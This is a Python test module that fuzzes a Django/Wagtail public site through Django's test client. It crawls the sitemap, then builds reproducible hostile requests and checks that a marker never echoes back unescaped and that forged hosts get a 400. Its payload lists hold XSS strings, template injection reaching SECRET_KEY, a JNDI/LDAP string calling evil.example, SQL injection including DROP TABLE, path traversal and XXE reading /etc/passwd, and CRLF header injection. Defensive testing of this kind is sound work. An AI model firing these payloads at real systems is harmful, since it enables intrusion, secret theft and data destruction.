"""A battery of hostile requests for the whole public site, built from what the site itself
shows: the sitemap (every language), the links and forms of each page it lists, the routes
behind them (feeds, .ics, vCards, area pages, receipts, cancellations) and the open data API.

Each request is generated from its number alone (random.Random(SEED + n)), so a failure seen in
the full run (`make hostile`) is repeated by its number. Each carries a marker of its own,
`<x-hostile-n>`, in what it sends: the marker must never come back unescaped.
"""

import random
import re
from dataclasses import dataclass, field
from urllib.parse import quote, urlsplit

from bs4 import BeautifulSoup

SEED = 15_000
HOST = "localhost"
ORIGIN = f"http://{HOST}"

# The query parameters the site reads somewhere; each target gets its own too.
KNOWN_PARAMS = [
    "q",
    "typ",
    "page",
    "skola",
    "omrade",
    "sprak",
    "amne",
    "for",
    "ar",
    "tack",
    "fel",
    "sida",
    "format",
]

# Hosts that are not this site: Django must answer 400 (DisallowedHost), never 500.
FORGED_HOSTS = [
    "evil.example",
    "evil.example:80",
    "localhost.evil.example",
    "localhost@evil.example",
    "localhost:80@evil.example",
    "localhost\\evil.example",
    "[::1",
    "a" * 300,
    "local host",
    "evil.example/localhost",
    "{{ request }}",
    "<x-hostile>",
]

# Odd spellings of this site's own host: any answer but a 5xx.
ODD_HOSTS = ["localhost:99999999999999999999", "LOCALHOST", "localhost.", "localhost:0", "[::1]"]

METHODS = ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD", "PROPFIND", "FOO", "CONNECT"]

HEADERS = [
    "HTTP_ACCEPT_LANGUAGE",
    "HTTP_REFERER",
    "HTTP_ORIGIN",
    "HTTP_USER_AGENT",
    "HTTP_COOKIE",
    "HTTP_X_FORWARDED_FOR",
    "HTTP_X_FORWARDED_PROTO",
    "HTTP_X_FORWARDED_HOST",
    "HTTP_IF_MODIFIED_SINCE",
    "HTTP_IF_NONE_MATCH",
    "HTTP_RANGE",
    "HTTP_ACCEPT",
    "HTTP_ACCEPT_ENCODING",
    "HTTP_X_REQUESTED_WITH",
    "HTTP_X_PAGE_FEEDBACK",
    "HTTP_AUTHORIZATION",
    "CONTENT_TYPE",
    "CONTENT_LENGTH",
]

# Byte-level trouble for a query string, a path or a form body, written as it travels.
RAW_PIECES = [
    "%ff",
    "%fe%ff",
    "%c0%af",
    "%c0%ae%c0%ae%c0%af",
    "%ed%a0%80",
    "%ed%bf%bf",
    "%f4%90%80%80",
    "%e2%82",
    "%",
    "%zz",
    "%%%",
    "%00",
    "%0d%0a",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "%5c..%5c",
    "+%2B+",
    "&&&==",
    "=",
    ";",
    "a=b=c",
    "%u003c",
]

CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=bogus-ÿ",
    "application/x-www-form-urlencoded; charset=latin-1",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=xx",
    "application/json",
    "text/xml",
    "text/plain",
    "application/octet-stream",
    "",
    "{{ x }}",
    "image/svg+xml",
]


def marker(n):
    return f"<x-hostile-{n}>"


def text_payloads(m):
    """Hostile values (str) that carry the marker `m`."""
    return [
        m,
        f'"><script>alert(1)</script>{m}',
        f"'><img src=x onerror=alert(1)>{m}",
        f"javascript:alert(1)//{m}",
        f"{{{{ request }}}}{{% debug %}}{m}",
        f"{{{{ settings.SECRET_KEY }}}}{{{{7*7}}}}{m}",
        f"{{% load static %}}{{% include '../../etc/passwd' %}}{m}",
        f"${{jndi:ldap://evil.example/a}}#{{7*7}}{m}",
        f"' OR '1'='1' -- {m}",
        f"1; DROP TABLE wagtailcore_page; --{m}",
        f"1) UNION SELECT NULL, version() --{m}",
        f"%' AND pg_sleep(0) --{m}",
        f"\\'; SELECT 1; --{m}",
        f"../../../../etc/passwd{m}",
        f"..\\..\\..\\windows\\win.ini{m}",
        f"a\x00b{m}",
        f"\x00{m}",
        f"\ud800{m}",
        f"{m}\udfff\ud800",
        f"\u202e{m}\u200b\ufeff",
        f"e\u0301\u0301\u0301{m}",
        f"🙂👨‍👩‍👧{m}",
        f"%s%n%x%d{m}",
        f"{m}" * 200,
        "x" * 10_000 + m,
        f"\r\nSet-Cookie: a=b\r\n{m}",
        f"[]{{}}null{m}",
        f"<!--{m}-->",
        f"<![CDATA[{m}]]>",
        f"mailto:a@example.org?{m}",
    ]


PLAIN_PAYLOADS = [
    "",
    " ",
    "-1",
    "0",
    "999999999999999999999999",
    "1e309",
    "NaN",
    "1.5",
    "true",
    "null",
    "[]",
    "ja",
    "nej",
    "klar",
    "2027-13-45",
    "19121212-1212",
]

HUGE = 1_000_000


@dataclass
class Target:
    """A URL of the site: GET (a page, feed, API) or POST (a public form, with the values and
    one-time token its page gave)."""

    method: str
    path: str
    params: list = field(default_factory=list)
    fields: dict = field(default_factory=dict)


@dataclass
class Probe:
    n: int
    kind: str
    method: str
    path: str
    query: str = ""
    headers: dict = field(default_factory=dict)
    body: bytes | None = None
    content_type: str = ""
    expect_status: int | None = None

    @property
    def marker(self):
        return marker(self.n).encode()

    def describe(self):
        body = (self.body or b"")[:160]
        heads = {k: v[:80] for k, v in self.headers.items()}
        return (
            f"#{self.n} {self.kind}: {self.method} {self.path[:160]!r} ?{self.query[:160]!r} "
            f"headers={heads} type={self.content_type!r} body={body!r}"
            f"{'…' if self.body and len(self.body) > 160 else ''}"
        )


def encode(value):
    """A value percent-encoded as a browser would (UTF-8), lone surrogates included as the
    bytes a careless client would send."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def header_value(value):
    """A header value as a WSGI server hands it over: bytes read as Latin-1, without the
    control characters that the server itself refuses."""
    raw = value.encode("utf-8", "surrogatepass").decode("latin-1")
    return re.sub(r"[\x00-\x1f\x7f]", "", raw)


# Collecting the targets from the site


def _same_site_path(href, page_path):
    if not href or href.startswith(("#", "mailto:", "tel:", "javascript:")):
        return None
    parts = urlsplit(href)
    if parts.netloc and parts.netloc not in (HOST, f"{HOST}:80"):
        return None
    path = parts.path or page_path
    if not path.startswith("/"):
        return None
    return path, parts.query


def collect_targets(client, extra_paths=()):
    """Walk the sitemap's pages (one level of links from each) and return (GET targets, POST
    targets)."""
    sitemap = client.get("/sitemap.xml", HTTP_HOST=HOST).content.decode()
    pages = [urlsplit(loc).path for loc in re.findall(r"<loc>(.*?)</loc>", sitemap)]
    seen = {}
    posts = []

    def add_get(path, params=()):
        target = seen.setdefault(path, Target("GET", path))
        target.params = sorted(set(target.params) | set(params))

    for path in ["/sitemap.xml", "/robots.txt", *pages, *extra_paths]:
        add_get(path)
    for page in _worth_reading(pages) + list(extra_paths):
        response = client.get(page, HTTP_HOST=HOST)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        html = BeautifulSoup(response.content, "html.parser")
        for tag in html.find_all(["a", "link"], href=True):
            found = _same_site_path(tag["href"], page)
            if found and not found[0].startswith(("/static/", "/admin/")):
                add_get(found[0], [pair.split("=")[0] for pair in found[1].split("&") if pair])
        for form in html.find_all("form"):
            action = _same_site_path(form.get("action") or page, page)
            if not action:
                continue
            names, values = [], {}
            for control in form.find_all(["input", "select", "textarea"]):
                name = control.get("name")
                if not name:
                    continue
                names.append(name)
                if control.name == "select":
                    option = control.find("option", value=True)
                    values[name] = option["value"] if option else ""
                elif control.get("type") in ("checkbox", "radio"):
                    values.setdefault(name, control.get("value", "on"))
                else:
                    values.setdefault(name, control.get("value") or control.text or "")
            if (form.get("method") or "get").lower() == "post":
                posts.append(Target("POST", action[0], names, values))
            else:
                add_get(action[0], names)
    # The feedback form is on every page: a few of each form are enough.
    few, per_action = [], {}
    for target in posts:
        per_action[target.path] = per_action.get(target.path, 0) + 1
        if per_action[target.path] <= 3:
            few.append(target)
    return list(seen.values()), few


def _worth_reading(pages):
    """The pages whose links and forms are read: every Swedish page, and in each other language
    its first pages and its advisor finder (its pages have the same links and forms as the
    Swedish ones, under its prefix)."""
    chosen, per_language = [], {}
    for path in pages:
        first = path.strip("/").split("/")[0]
        if len(first) != 2:
            chosen.append(path)
            continue
        per_language[first] = per_language.get(first, 0) + 1
        if per_language[first] <= 3 or "hitta" in path:
            chosen.append(path)
    return chosen


# Generating the probes


def _pick_value(rng, m):
    roll = rng.random()
    if roll < 0.02:
        return "A" * HUGE + m
    if roll < 0.12:
        return rng.choice(PLAIN_PAYLOADS)
    return rng.choice(text_payloads(m))


def _query(rng, names, m):
    names = names or ["q"]
    parts = []
    for _ in range(rng.randint(1, 4)):
        name = rng.choice(names + KNOWN_PARAMS + [m, "a[]", "__proto__", ""])
        roll = rng.random()
        if roll < 0.25:
            value = rng.choice(RAW_PIECES) + encode(m) + rng.choice(RAW_PIECES)
        else:
            value = encode(_pick_value(rng, m))
        repeat = rng.choice([1, 1, 1, 2, 3, 50])
        parts.extend([f"{encode(name)}={value}"] * repeat)
    if rng.random() < 0.1:
        parts.append(rng.choice(RAW_PIECES))
    return "&".join(parts)


PATH_TRICKS = [
    "../",
    "../../../../etc/passwd",
    "%2e%2e/",
    "%2e%2e%2f%2e%2e%2f",
    "..%2f..%2f",
    "//",
    "///evil.example/",
    "\\",
    "%5c%5c",
    "..\\..\\",
    "%00",
    "a%00b/",
    "%ff/",
    "%c0%af/",
    "%ed%a0%80/",
    "%e2%82/",
    ";jsessionid=1/",
    "~root/",
    ".git/config",
    "index.php",
    "?",
    "#",
]


def _path(rng, path, m):
    roll = rng.random()
    if roll < 0.15:
        return path + ("a" * rng.choice([255, 2_000, 20_000])) + "/"
    if roll < 0.25:
        return path + "a/" * rng.choice([100, 1_000])
    if roll < 0.45:
        return path + encode(m) + "/"
    trick = rng.choice(PATH_TRICKS)
    return path + trick if rng.random() < 0.7 else trick + path.lstrip("/")


def _form_body(rng, target, m):
    """A form body: the form's own values with hostile ones mixed in, as bytes, and its type."""
    values = dict(target.fields)
    names = list(values) or ["q"]
    roll = rng.random()
    if roll < 0.5:
        values[rng.choice(names)] = _pick_value(rng, m)
    elif roll < 0.7:
        for name in names:
            if name != "form-token":
                values[name] = _pick_value(rng, m) if rng.random() < 0.5 else values[name]
    elif roll < 0.8:
        values[m] = _pick_value(rng, m)
    elif roll < 0.9:
        values["form-token"] = rng.choice(text_payloads(m))
    pairs = [f"{encode(k)}={encode(v)}" for k, v in values.items()]
    if rng.random() < 0.15:
        pairs.append(rng.choice(RAW_PIECES) + encode(m))
    if rng.random() < 0.1:
        name = rng.choice(names)
        pairs.extend([f"{encode(name)}={encode(m)}"] * rng.choice([2, 100, 1_500]))
    body = "&".join(pairs).encode("latin-1")
    if rng.random() < 0.1:
        body += rng.choice([b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x00", b"&\x80="])
    return body


def _multipart(rng, target, m):
    boundary = "hostile-boundary"
    values = dict(target.fields)
    names = list(values) or ["q"]
    values[rng.choice(names)] = _pick_value(rng, m)
    chunks = []
    for name, value in values.items():
        chunks.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            + value.encode("utf-8", "surrogatepass")
            + b"\r\n"
        )
    if rng.random() < 0.5:
        # A file nobody asked for, with a hostile name.
        chunks.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="../../{m}.html"\r\nContent-Type: text/html\r\n\r\n'.encode()
            + m.encode()
            + b"\r\n"
        )
    tail = rng.choice([f"--{boundary}--\r\n".encode(), b"", b"--garbage"])
    return b"".join(chunks) + tail, f"multipart/form-data; boundary={boundary}"


def probe(n, gets, posts):
    rng = random.Random(SEED + n)  # noqa: S311 (repeatable, not secret)
    m = marker(n)
    kind = rng.choices(
        ["query", "path", "header", "host", "method", "post", "post-type"],
        weights=[34, 10, 14, 4, 6, 24, 8],
    )[0]
    if kind in ("post", "post-type") and not posts:
        kind = "query"
    if kind == "post":
        target = rng.choice(posts)
        headers = {"HTTP_ORIGIN": ORIGIN}
        if rng.random() < 0.3:
            body, content_type = _multipart(rng, target, m)
        else:
            body = _form_body(rng, target, m)
            content_type = "application/x-www-form-urlencoded"
        if rng.random() < 0.1:
            headers["HTTP_X_PAGE_FEEDBACK"] = "1"
        if rng.random() < 0.2:
            headers[rng.choice(HEADERS[:-2])] = header_value(_pick_value(rng, m))
        query = _query(rng, target.params, m) if rng.random() < 0.2 else ""
        return Probe(n, kind, "POST", target.path, query, headers, body, content_type)
    if kind == "post-type":
        target = rng.choice(posts)
        content_type = rng.choice(CONTENT_TYPES)
        body = rng.choice(
            [
                _form_body(rng, target, m),
                f'{{"q": "{m}", "a": [1, {{"b": null}}]}}'.encode(),
                f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                f"<x>&e;{m}</x>".encode(),
                b"\xff\xfe\x00" + m.encode("utf-16"),
                b"A" * (3 * 1024 * 1024),
                b"",
            ]
        )
        method = rng.choice(["POST", "POST", "PUT", "PATCH"])
        return Probe(n, kind, method, target.path, "", {"HTTP_ORIGIN": ORIGIN}, body, content_type)
    target = rng.choice(gets + posts)
    if kind == "query":
        return Probe(n, kind, "GET", target.path, _query(rng, target.params, m))
    if kind == "path":
        return Probe(n, kind, rng.choice(["GET", "GET", "POST"]), _path(rng, target.path, m))
    if kind == "header":
        headers = {
            rng.choice(HEADERS): header_value(_pick_value(rng, m)) for _ in range(rng.randint(1, 4))
        }
        return Probe(n, kind, rng.choice(["GET", "GET", "HEAD", "POST"]), target.path, "", headers)
    if kind == "host":
        host = rng.choice(FORGED_HOSTS)
        return Probe(n, kind, "GET", target.path, "", {"HTTP_HOST": host}, expect_status=400)
    method = rng.choice(METHODS)
    body = _form_body(rng, target, m) if target.fields else m.encode()
    return Probe(
        n,
        kind,
        method,
        target.path,
        _query(rng, target.params, m) if rng.random() < 0.5 else "",
        {"HTTP_ORIGIN": ORIGIN},
        body,
        "application/x-www-form-urlencoded",
    )


def send(client, probe):
    """Send a probe through Django's test client; returns (status, body bytes)."""
    extra = {"HTTP_HOST": HOST, "QUERY_STRING": probe.query, **probe.headers}
    kwargs = {}
    if probe.body is not None:
        kwargs = {"data": probe.body, "content_type": probe.content_type}
    if probe.content_type == "":
        kwargs.pop("content_type", None)
    response = client.generic(probe.method, probe.path, **kwargs, **extra)
    try:
        return response.status_code, response.getvalue()
    finally:
        response.close()


def echo_free(body, probe):
    return probe.marker not in body
